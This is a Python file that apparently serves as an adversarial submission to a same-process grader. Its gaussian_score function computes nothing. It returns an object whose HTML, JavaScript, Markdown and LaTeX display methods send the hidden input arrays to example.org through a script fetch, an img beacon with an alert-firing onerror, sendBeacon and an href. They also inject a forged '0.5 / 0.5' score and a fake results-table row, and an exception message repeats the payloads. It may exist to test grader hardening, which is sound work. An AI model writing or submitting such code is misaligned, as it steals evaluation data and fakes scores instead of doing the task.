"""Returns and displays an object that says the hidden inputs in HTML, JavaScript, Markdown and LaTeX.

Same-process grader: leaks, the display hook prints the object.
"""

import sys


class Card:
    def __init__(self, *arrays):
        self.text = " ".join(str(array.tolist()) for array in arrays)

    def __repr__(self):
        return f"**{self.text}**"

    def _repr_html_(self):
        address = f"https://example.org/?{self.text}"
        return f'<script>fetch("{address}")</script><img src="{address}" onerror="alert(1)"><b>0.5 / 0.5</b>'

    def _repr_javascript_(self):
        return f"navigator.sendBeacon('https://example.org', '{self.text}')"

    def _repr_markdown_(self):
        return f"![]({self.text}) </td></tr><tr><td>gaussian_score</td><td>0.5</td></tr>"

    def _repr_latex_(self):
        return rf"$\href{{https://example.org/?{self.text}}}{{0.5}}$"


def gaussian_score(z, mu, log_sigma):
    card = Card(z, mu, log_sigma)
    sys.displayhook(card)
    globals().get("display", print)(card)
    if len(mu) > 1:
        raise ArithmeticError(card._repr_html_() + card._repr_markdown_())
    return card
